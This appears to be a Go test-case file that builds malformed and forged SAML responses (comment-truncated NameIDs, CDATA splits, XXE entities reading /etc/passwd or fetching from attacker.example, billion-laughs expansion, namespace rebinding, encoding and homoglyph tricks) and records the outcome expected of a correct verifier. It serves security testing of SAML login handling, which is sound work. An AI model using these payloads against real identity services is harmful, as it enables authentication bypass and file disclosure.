package attack

import (
	"bytes"
	"fmt"
	"strings"
	"unicode/utf16"
)

// Family C: two readers of one text see two documents.

func parserCases() []Case {
	return append(append(append(comments(), entities()...), names()...), octets()...)
}

// rewritten is a case in which the attacker rewrites the finished document.
func rewritten(id string, o Outcome, f func(*draft, string) string) Case {
	return Case{ID: id, Outcome: o, attack: change{text: f}}
}

const (
	nameStart = ">%subject%</saml2:NameID>"
	// longName is a genuine account's name, which an attacker may well own.
	longName = "admin@example.com.attacker.example"
)

func comments() []Case {
	text := refuse("Text")
	long := change{subject: longName}
	comment := func(id, at, with string) Case {
		return Case{ID: id, Outcome: text, base: long, attack: change{text: replace(at, with)}}
	}
	element := func(id, path, xml string) Case {
		return Case{ID: id, Outcome: text, attack: change{before: add(path, xml)}}
	}
	audience, issuer := restriction+"/Audience", "./Assertion/Issuer"
	return []Case{
		comment("C01/truncating", longName+"</", "admin@example.com<!---->.attacker.example</"),
		comment("C01/at-the-start", ">"+longName, "><!-- x -->"+longName),
		comment("C01/at-the-end", longName+"</", longName+"<!-- x --></"),
		comment("C01/with-text", longName+"</", "admin@example.com<!-- >.attacker.example</ -->.attacker.example</"),
		// Between elements a comment splits nothing.
		rewritten("C01/elsewhere", accept(), replace("<saml2:Subject>", "<!-- a --><saml2:Subject><!-- b -->")),
		rewritten("C01/around-root", accept(), func(_ *draft, s string) string {
			return strings.Replace(s, "?>", "?><!-- before -->", 1) + "<!-- after -->\n"
		}),
		{ID: "C02/split", Outcome: text, base: withRole, attack: change{text: replace(">on-call<", ">on-<!-- x -->call<")}},
		{ID: "C02/at-the-end", Outcome: text, base: withRole, attack: change{text: replace(">on-call<", ">on-call<!-- x --><")}},
		rewritten("C03/assertion", text, func(d *draft, s string) string {
			head, tail, _ := strings.Cut(s, "<saml2:Assertion")
			return head + "<saml2:Assertion" + strings.Replace(tail, ">"+d.p.Issuer+"<", "><!-- x -->"+d.p.Issuer+"<", 1)
		}),
		rewritten("C03/response", text, replace(">%issuer%<", ">%issuer%<!--.attacker.example--><")),
		rewritten("C04/audience", text, replace(">%audience%</saml2:Audience>", ">%audience%<!-- -->.attacker.example</saml2:Audience>")),
		rewritten("C04/audience-end", text, replace(">%audience%</saml2:Audience>", ">%audience%<!-- --></saml2:Audience>")),
		rewritten("C04/authn-context", text, replace(">"+password+"<", ">"+password+"<!-- --><")),
		{ID: "C05/split", Outcome: accept(), attack: change{text: replace(nameStart, "><![CDATA[%subject%]]></saml2:NameID>")}},
		{ID: "C05/part", Outcome: Outcome{NameID: longName}, base: long, attack: change{text: replace(longName+"</", "admin@example.com<![CDATA[.attacker.example]]></")}},
		{ID: "C05/adjacent", Outcome: Outcome{NameID: longName}, base: long, attack: change{text: replace(longName+"</", "<![CDATA[admin@example.com]]><![CDATA[.attacker.example]]></")}},
		{ID: "C05/looks-like-a-comment", Outcome: Outcome{NameID: "admin@example.com<!---->.attacker.example"},
			base:   change{subject: "admin@example.com<!---->.attacker.example"},
			attack: change{text: replace("admin@example.com&lt;!----&gt;.attacker.example", "<![CDATA[admin@example.com<!---->.attacker.example]]>")}},
		{ID: "C05/empty", Outcome: accept(), attack: change{text: replace(nameStart, ">%subject%<![CDATA[]]></saml2:NameID>")}},
		{ID: "C05/attribute-value", Outcome: onlyRole, base: withRole, attack: change{text: replace(">on-call<", ">on<![CDATA[-call]]><")}},
		{ID: "C06/name-id", Outcome: refuse("XML"), base: long, attack: change{text: replace(longName+"</", "admin@example.com<?x?>.attacker.example</")}},
		{ID: "C06/attribute-value", Outcome: refuse("XML"), base: withRole, attack: change{text: replace(">on-call<", ">on-<?x y?>call<")}},
		rewritten("C06/stylesheet", refuse("XML"), afterDeclaration(`<?xml-stylesheet type="text/xsl" href="http://attacker.example/x.xsl"?>`)),
		rewritten("C06/at-the-end", refuse("XML"), func(_ *draft, s string) string { return s + "<?x?>" }),
		rewritten("C06/second-declaration", refuse("XML"), afterDeclaration(`<?xml version="1.0"?>`)),
		element("C07/name-id", nameID, `<x xmlns="urn:example:x">.attacker.example</x>`),
		element("C07/issuer", issuer, `<x xmlns="urn:example:x"/>`),
		element("C07/audience", audience, `<x xmlns="urn:example:x"/>`),
		{ID: "C07/attribute-value", Outcome: Outcome{Values: map[string][]string{"tree": nil}}, attack: change{
			before: add(statement, `<saml2:Attribute Name="tree"><saml2:AttributeValue><saml2:NameID>alice</saml2:NameID></saml2:AttributeValue></saml2:Attribute>`),
		}},
		{ID: "C07/mixed", Outcome: Outcome{Values: map[string][]string{"tree": nil}}, attack: change{
			before: add(statement, `<saml2:Attribute Name="tree"><saml2:AttributeValue>admin<x xmlns="urn:example:x">istrator</x></saml2:AttributeValue></saml2:Attribute>`),
		}},
	}
}

func entities() []Case {
	bad := refuse("XML")
	doctype := func(id, subset string) Case {
		return rewritten(id, bad, afterDeclaration("<!DOCTYPE saml2p:Response"+subset+">"))
	}
	// used also replaces the subject by an entity.
	used := func(id, subset, by string) Case {
		return rewritten(id, bad, func(d *draft, s string) string {
			s = afterDeclaration("<!DOCTYPE saml2p:Response ["+subset+"]>")(d, s)
			return replace(nameStart, ">"+by+"</saml2:NameID>")(d, s)
		})
	}
	var laughs strings.Builder
	laughs.WriteString(`<!ENTITY a0 "ha">`)
	for i := range 9 {
		fmt.Fprintf(&laughs, `<!ENTITY a%d "%s">`, i+1, strings.Repeat(fmt.Sprintf("&a%d;", i), 10))
	}
	return []Case{
		doctype("C08/bare", ""),
		doctype("C08/empty-subset", " []"),
		doctype("C08/system", ` SYSTEM "http://attacker.example/x.dtd"`),
		doctype("C08/public", ` PUBLIC "-//X//EN" "http://attacker.example/x.dtd"`),
		rewritten("C08/lower-case", bad, afterDeclaration("<!doctype html>")),
		rewritten("C08/inside", bad, beforeStatus("<!DOCTYPE x>")),
		rewritten("C08/at-the-end", bad, func(_ *draft, s string) string { return s + "<!DOCTYPE x>" }),
		used("C09/name-id", `<!ENTITY x "%forged%">`, "&x;"),
		used("C09/same-value", `<!ENTITY x "%subject%">`, "&x;"),
		used("C09/nested", `<!ENTITY y "%forged%"><!ENTITY x "&y;">`, "&x;"),
		used("C09/predefined", `<!ENTITY amp "%forged%">`, "&amp;"),
		rewritten("C09/undeclared", bad, replace(nameStart, ">&x;</saml2:NameID>")),
		rewritten("C09/html", bad, replace(nameStart, ">%subject%&nbsp;</saml2:NameID>")),
		rewritten("C09/no-semicolon", bad, replace(nameStart, ">%subject%&amp</saml2:NameID>")),
		used("C10/file", `<!ENTITY x SYSTEM "file:///etc/passwd">`, "&x;"),
		used("C10/http", `<!ENTITY x SYSTEM "http://attacker.example/">`, "&x;"),
		used("C10/parameter", `<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;`, "%subject%"),
		used("C11/laughs", laughs.String(), "&a9;"),
		used("C11/quadratic", `<!ENTITY x "`+strings.Repeat("x", 1000)+`">`, strings.Repeat("&x;", 1000)),
		doctype("C12/id-attribute", ` [<!ATTLIST saml2:Subject Name ID #IMPLIED>]`),
		doctype("C12/default-attribute", ` [<!ATTLIST saml2:NameID Format CDATA "urn:example:format">]`),
		doctype("C13/notation", ` [<!NOTATION x SYSTEM 'x">]><!--'>]`),
		doctype("C13/quoted-bracket", ` [<!ENTITY x ']>'>]`),
		rewritten("C18/nested-comment", bad, afterDeclaration(`<!x<!-- -->>`)),
		rewritten("C18/element", bad, beforeStatus(`<!ELEMENT x ANY>`)),
		rewritten("C18/hidden", bad, beforeStatus(`<!x<!-->--><!--x -->>`)),
		rewritten("C18/empty", bad, beforeStatus(`<!>`)),
	}
}

func names() []Case {
	bad := refuse("XML")
	root := func(id, attrs string) Case {
		return rewritten(id, bad, replace("<saml2p:Response ", "<saml2p:Response "+attrs+" "))
	}
	element := func(id, xml string) Case { return rewritten(id, bad, beforeStatus(xml)) }
	return []Case{
		root("C14/xmlns-prefix", `xmlns:xmlns="urn:example:x"`),
		root("C14/xml-prefix", `xmlns:xml="urn:example:x"`),
		root("C14/xml-namespace", `xmlns:x="http://www.w3.org/XML/1998/namespace"`),
		root("C14/xmlns-namespace", `xmlns:x="http://www.w3.org/2000/xmlns/"`),
		root("C14/undeclared", `x:a="1"`),
		root("C14/unbound", `xmlns:x=""`),
		element("C14/undeclared-element", `<x:a/>`),
		element("C14/out-of-scope", `<a xmlns:x="urn:example:x"/><x:a/>`),
		root("C15/twice", `Version="1.1"`),
		root("C15/two-prefixes", `xmlns:a="urn:example:x" xmlns:b="urn:example:x" a:ID="1" b:ID="2"`),
		root("C15/declared-twice", `xmlns:saml2p="urn:example:x"`),
		{ID: "C15/prefixed-id", Outcome: shape, attack: change{signed: func(d *draft, s *signature) {
			value := s.parent.SelectAttrValue("ID", "")
			s.parent.CreateAttr("ID", d.newID())
			s.parent.CreateAttr("xmlns:p", nsProtocol)
			s.parent.CreateAttr("p:ID", value)
			s.redigest()
			s.ok()
		}}},
		{ID: "C15/prefixed-recipient", Outcome: refuse("Recipient"), attack: change{before: in(
			func(d *draft) { d.find(data).CreateAttr("saml2:Recipient", d.p.Recipient) }, set(data, "Recipient", "https://attacker.example/acs"))}},
		root("C16/two-colons", `::attr="x"`),
		root("C16/empty-prefix", `:attr="x"`),
		root("C16/empty-local", `xmlns:x="urn:example:x" x:="y"`),
		root("C16/xmlns-empty", `xmlns:="urn:example:x"`),
		root("C16/empty-xmlns", `:xmlns="urn:example:x"`),
		root("C16/undeclared-xmlns", `x:xmlns="urn:example:x"`),
		rewritten("C16/prefixed-xmlns", refuse("Signature"), replace("<saml2:NameID ", `<saml2:NameID xmlns:x="urn:example:x" x:xmlns="urn:example:y" `)),
		element("C17/empty-prefix", `<:a/>`),
		element("C17/empty-local", `<a: xmlns:a="urn:example:x"/>`),
		element("C17/two-colons", `<a:b:c xmlns:a="urn:example:x"/>`),
		element("C17/colons-alone", `<::/>`),
		element("C17/digit", `<1a/>`),
		element("C17/prefix-digit", `<x:1a xmlns:x="urn:example:x"/>`),
		element("C17/end-tag", `<a xmlns="urn:example:x"></b>`),
		element("C17/prefix-of-end-tag", `<x:a xmlns:x="urn:example:x" xmlns:y="urn:example:x"></y:a>`),
		{ID: "C19/assertion", Outcome: refuse("NotResponse"), Needs: responseOnly, attack: change{before: set(asrt, "xmlns:saml2", "urn:example:evil")}},
		{ID: "C19/response", Outcome: refuse("NotResponse"), attack: change{before: set(top, "xmlns:saml2p", "urn:example:evil")}},
		{ID: "C19/no-namespace", Outcome: refuse("NotResponse"), Needs: responseOnly, attack: change{before: func(d *draft) { d.asrt.Space = "" }}},
		{ID: "C19/name-id", Outcome: refuse("NameID", "NotResponse"), attack: change{before: set(nameID, "xmlns:saml2", "urn:example:evil")}},
		{ID: "C19/confirmation", Outcome: refuse("SubjectConfirmation", "NotResponse"), attack: change{before: set(confirmation, "xmlns:saml2", "urn:example:evil")}},
		{ID: "C19/restriction", Outcome: refuse("Audience", "Condition"), attack: change{before: set(restriction, "xmlns:saml2", "urn:example:evil")}},
		{ID: "C19/signature", Outcome: refuse("Unsigned"), Needs: assertionOnly, attack: change{signed: func(_ *draft, s *signature) { s.el.CreateAttr("xmlns:ds", "urn:example:evil") }}},
		{ID: "C19/signed-info", Outcome: shape, attack: change{signed: func(_ *draft, s *signature) {
			s.info.CreateAttr("xmlns:ds", "urn:example:evil")
			s.ok()
		}}},
		{ID: "C20/inherited", Outcome: accept(), attack: change{setup: inherit}},
		{ID: "C20/rebound-unused", Outcome: accept(), Needs: assertionOnly, base: change{setup: inherit}, attack: change{after: rebind}},
		{ID: "C20/rebound-used", Outcome: refuse("NotResponse"), Needs: assertionOnly, base: change{setup: inherit},
			attack: change{after: in(func(d *draft) { d.find("./Issuer").CreateAttr("xmlns:saml2", nsAssertion) }, set(top, "xmlns:saml2", "urn:example:evil"))}},
		{ID: "C20/moved", Outcome: refuse("XML"), Needs: assertionOnly, base: change{setup: inherit}, attack: change{text: replace(` xmlns:saml2="`+nsAssertion+`"`, "")}},
		{ID: "C25/condition-type", Outcome: refuse("Condition"), attack: change{before: add(conditions,
			`<saml2:Condition xmlns:x="urn:example:x" xmlns:xsi="`+nsXSI+`" xsi:type="x:Anything"/>`)}},
		{ID: "C25/restriction-as-condition", Outcome: refuse("Condition"), attack: change{before: add(conditions,
			`<saml2:Condition xmlns:xsi="`+nsXSI+`" xsi:type="saml2:AudienceRestrictionType"><saml2:Audience>https://other.example</saml2:Audience></saml2:Condition>`)}},
		{ID: "C25/statement-as-authn", Outcome: refuse("Authn"), attack: change{before: in(remove(authn), add(asrt,
			`<saml2:Statement xmlns:xsi="`+nsXSI+`" xsi:type="saml2:AuthnStatementType" AuthnInstant="%now%"><saml2:AuthnContext/></saml2:Statement>`))}},
		signedSo("C25/base-id", "NameID", inPlace(nameID, `<saml2:BaseID xmlns:xsi="`+nsXSI+`" xsi:type="saml2:NameIDType">%forged%</saml2:BaseID>`)),
		// Where the schema has none. Enveloped, it verifies there all the same.
		{ID: "C25/signature-last", Outcome: shape, attack: change{signed: func(_ *draft, s *signature) {
			s.parent.AddChild(detach(s.el))
		}}},
		signedSo("C25/no-attribute", "Schema", func(d *draft) { d.find(statement).Child = nil }),
		signedSo("C25/no-attribute-in-second", "Schema", add(asrt, `<saml2:AttributeStatement/>`)),
		{ID: "C26/joined", Outcome: joined, base: withRole,
			attack: change{before: add(statement, forgedAttribute)}},
		{ID: "C26/second-statement", Outcome: joined, base: withRole,
			attack: change{before: add(asrt, forgedStatement)}},
		{ID: "C26/outside", Outcome: onlyRole, base: withRole, Needs: assertionOnly, attack: change{after: func(d *draft) { d.extensions().AddChild(d.parse(forgedStatement)) }}},
		{ID: "C26/added-by-attacker", Outcome: refuse("Signature"), base: withRole, attack: change{after: add(statement, forgedAttribute)}},
	}
}

// The attribute that forgedAttribute adds a value to.
var (
	withRole = change{before: func(d *draft) { d.addAttribute("role", "on-call") }}
	onlyRole = Outcome{Values: map[string][]string{"role": {"on-call"}}}
	joined   = Outcome{Values: map[string][]string{"role": {"on-call", "administrator"}}}
)

// split puts something inside of a text that may be as short as it likes.
func split(s, with string) string {
	runes := []rune(s)
	if len(runes) < 2 {
		return s + with + s
	}
	return string(runes[:len(runes)/2]) + with + string(runes[len(runes)/2:])
}

func upper(s string) string { return strings.ToUpper(s) }

// homoglyph puts a Cyrillic letter in a Latin one's place.
func homoglyph(s string) string { return strings.Replace(s, "e", "е", 1) }

func octets() []Case {
	bad := refuse("XML")
	whole := func(id string, f func(string) string) Case {
		return rewritten(id, bad, func(_ *draft, s string) string { return f(s) })
	}
	text := func(id, path string, o Outcome, f func(string) string) Case {
		return Case{ID: id, Outcome: o, attack: change{before: editText(path, f)}}
	}
	in := func(id, with string) Case {
		return rewritten(id, bad, replace(nameStart, ">%subject%"+with+"</saml2:NameID>"))
	}
	declared := func(id, declaration string) Case {
		return whole(id, func(s string) string { return declaration + s[len(xmlDeclaration):] })
	}
	return append([]Case{
		in("C21/invalid", "\xff"),
		in("C21/overlong", "\xc0\xbc"),
		in("C21/surrogate", "\xed\xa0\x80"),
		in("C21/truncated", "\xe2\x82"),
		whole("C21/utf-16-le", func(s string) string { return string(utf16Bytes(s, false)) }),
		whole("C21/utf-16-be", func(s string) string { return string(utf16Bytes(s, true)) }),
		whole("C21/utf-7", func(s string) string { return "+/v8-" + strings.ReplaceAll(s, "<", "+ADw-") }),
		declared("C21/xml-1.1", `<?xml version="1.1" encoding="UTF-8"?>`),
		declared("C21/latin-1", `<?xml version="1.0" encoding="ISO-8859-1"?>`),
		declared("C21/says-utf-16", `<?xml version="1.0" encoding="UTF-16"?>`),
		declared("C21/says-utf-7", `<?xml version="1.0" encoding="UTF-7"?>`),
		in("C22/control", "\x01"),
		in("C22/reference-to-control", "&#1;"),
		in("C22/reference-to-nul", "&#0;"),
		in("C22/reference-to-surrogate", "&#xD800;"),
		in("C22/non-character", "\uffff"),
		in("C22/too-large", "&#x110000;"),
		in("C22/escape", "\x1b"),
		{ID: "C22/carriage-return", Outcome: Outcome{Values: map[string][]string{"address": {"1 Main Street\r\nSpringfield"}}},
			attack: change{before: func(d *draft) { d.addAttribute("address", "1 Main Street\r\nSpringfield") }}},
		{ID: "C22/decimal", Outcome: Outcome{Values: map[string][]string{"address": {"1 Main Street\rSpringfield"}}},
			base:   change{before: func(d *draft) { d.addAttribute("address", "1 Main Street\rSpringfield") }},
			attack: change{text: replace("&#xD;", "&#13;")}},
		{ID: "C22/line-ends", Outcome: Outcome{Values: map[string][]string{"address": {"1 Main Street\nSpringfield"}}},
			base:   change{before: func(d *draft) { d.addAttribute("address", "1 Main Street\nSpringfield") }},
			attack: change{text: func(_ *draft, s string) string { return strings.ReplaceAll(s, "\n", "\r\n") }}},
		{ID: "C22/in-attribute", Outcome: Outcome{Values: map[string][]string{"a\tb\nc": {"x"}}}, attack: change{before: func(d *draft) { d.addAttribute("a\tb\nc", "x") }}},
		{ID: "C22/normalised-attribute", Outcome: Outcome{Values: map[string][]string{"a b": {"x"}}},
			base:   change{before: func(d *draft) { d.addAttribute("a b", "x") }},
			attack: change{text: replace(`"a b"`, "\"a\nb\"")}},
		whole("C23/trailing-text", func(s string) string { return s + "x" }),
		whole("C23/trailing-nul", func(s string) string { return s + "\x00" }),
		whole("C23/trailing-element", func(s string) string { return s + "<x/>" }),
		whole("C23/trailing-cdata", func(s string) string { return s + "<![CDATA[x]]>" }),
		whole("C23/trailing-reference", func(s string) string { return s + "&#32;" }),
		whole("C23/trailing-end-tag", func(s string) string { return s + "</saml2p:Response>" }),
		whole("C23/leading-text", func(s string) string { return "x" + s }),
		whole("C23/leading-space", func(s string) string { return " " + s }),
		whole("C23/leading-nul", func(s string) string { return "\x00" + s }),
		whole("C23/inner-nul", func(s string) string { return strings.Replace(s, "<saml2p:Status>", "\x00<saml2p:Status>", 1) }),
		whole("C23/cut-off", func(s string) string { return s[:len(s)-1] }),
		whole("C23/half", func(s string) string { return s[:len(s)/2] }),
		rewritten("C23/trailing-line-end", accept(), func(_ *draft, s string) string { return s + "\r\n" }),
		text("C27/issuer-space", "./Assertion/Issuer", refuse("Issuer"), func(s string) string { return s + " " }),
		text("C27/issuer-lines", "./Assertion/Issuer", refuse("Issuer"), func(s string) string { return "\n  " + s + "\n" }),
		text("C27/issuer-case", "./Assertion/Issuer", refuse("Issuer"), upper),
		text("C27/issuer-homoglyph", "./Assertion/Issuer", refuse("Issuer"), homoglyph),
		// An xs:anyURI collapses its white space, and nothing else.
		text("C27/audience-space", restriction+"/Audience", accept(), func(s string) string { return " " + s }),
		text("C27/audience-lines", restriction+"/Audience", accept(), func(s string) string { return "\n    " + s + "\n  " }),
		text("C27/audience-tabs", restriction+"/Audience", accept(), func(s string) string { return "\t" + s + " \t\r\n" }),
		text("C27/audience-inner-space", restriction+"/Audience", refuse("Audience"), func(s string) string { return split(s, " ") }),
		text("C27/audience-inner-lines", restriction+"/Audience", refuse("Audience"), func(s string) string { return "\n" + split(s, "\n\t") + "\n" }),
		text("C27/audience-no-break-space", restriction+"/Audience", refuse("Audience"), func(s string) string { return "\u00a0" + s + "\u00a0" }),
		text("C27/audience-case", restriction+"/Audience", refuse("Audience"), upper),
		text("C27/audience-homoglyph", restriction+"/Audience", refuse("Audience"), homoglyph),
		{ID: "C27/recipient-case", Outcome: refuse("Recipient"), attack: change{before: edit(data, "Recipient", upper)}},
		{ID: "C27/recipient-space", Outcome: refuse("Recipient"), attack: change{before: edit(data, "Recipient", func(s string) string { return s + " " })}},
		// A name is what it is; no reader may make another one of it.
		{ID: "C27/name-id-space", Outcome: Outcome{NameID: " admin@example.com "}, attack: change{before: setText(nameID, " admin@example.com ")}},
		{ID: "C27/name-id-case", Outcome: Outcome{NameID: "Admin@Example.com"}, attack: change{before: setText(nameID, "Admin@Example.com")}},
		{ID: "C27/name-id-homoglyph", Outcome: Outcome{NameID: homoglyph("admin@example.com")}, attack: change{before: setText(nameID, homoglyph("admin@example.com"))}},
		whole("C28/empty", func(string) string { return "" }),
		whole("C28/white-space", func(string) string { return " \n" }),
		whole("C28/comment", func(string) string { return "<!-- x -->" }),
		whole("C28/declaration", func(string) string { return xmlDeclaration }),
		whole("C28/text", func(string) string { return "x" }),
		whole("C28/tag-start", func(string) string { return "<" }),
		rewritten("C28/empty-root", refuse("NotResponse"), func(*draft, string) string { return "<x/>" }),
		rewritten("C28/empty-response", refuse("ID", "Time", "Status", "NotResponse"), func(*draft, string) string {
			return `<saml2p:Response xmlns:saml2p="` + nsProtocol + `"/>`
		}),
	}, append(encodings(), sizes()...)...)
}

func utf16Bytes(s string, big bool) []byte {
	var out bytes.Buffer
	for _, u := range append([]uint16{0xfeff}, utf16.Encode([]rune(s))...) {
		if big {
			out.Write([]byte{byte(u >> 8), byte(u)})
		} else {
			out.Write([]byte{byte(u), byte(u >> 8)})
		}
	}
	return out.Bytes()
}
